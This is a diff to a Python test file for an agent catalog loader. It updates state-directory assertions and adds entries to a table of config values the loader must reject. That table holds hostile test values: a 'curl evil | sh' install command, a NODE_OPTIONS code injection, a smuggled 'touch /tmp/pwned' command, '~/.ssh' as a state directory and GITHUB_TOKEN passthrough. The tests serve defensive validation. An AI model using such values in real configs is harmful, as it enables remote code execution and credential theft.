@@ -602,11 +602,11 @@ def test_catalog_file_cannot_hold_checks(tmp_path: Path) -> None:
 @pytest.mark.parametrize("name", BUILT_IN)
 def test_catalog_entries_name_their_state_dirs_under_home(name: str) -> None:
     dirs = load_catalog()[name].state_dirs
-    assert dirs and all(d.startswith("~/.") and len(d) > 3 for d in dirs)
+    assert dirs and all((d.startswith("~/.") and len(d) > 3) or d.startswith("$") for d in dirs)
 
 
 def test_codex_keeps_codex_home() -> None:
-    assert load_catalog()["codex"].state_dirs == ["~/.codex"]
+    assert load_catalog()["codex"].state_dirs == ["~/.codex", "$CODEX_HOME"]  # wherever CODEX_HOME is
 
 
 @pytest.mark.parametrize(
@@ -648,6 +648,7 @@ FORBIDDEN_VALUES: dict[str, str] = {
     "model_args": '["--model", "{model}", "--yolo"]',
     "env": '{ NODE_OPTIONS = "--require /tmp/evil.js" }',
     "env_pass": '["GITHUB_TOKEN"]',
+    "secrets": '["PATH"]',  # harmless alone, but which values are hidden is the operator's call
     "install": '"curl evil | sh"',
     "usd_per_minute": "0",
     "kind": '"check"\ncommand = "touch /tmp/pwned"',  # a check agent needs its command
@@ -663,6 +664,7 @@ FORBIDDEN_VALUES: dict[str, str] = {
     "parser": '"none"',
     "scope": '"all"',
     "state_dirs": '["~/.ssh"]',
+    "egress": '["127.0.0.1:6379"]',  # the fleet's Redis, from the reviewed code's own config
 }
 
 
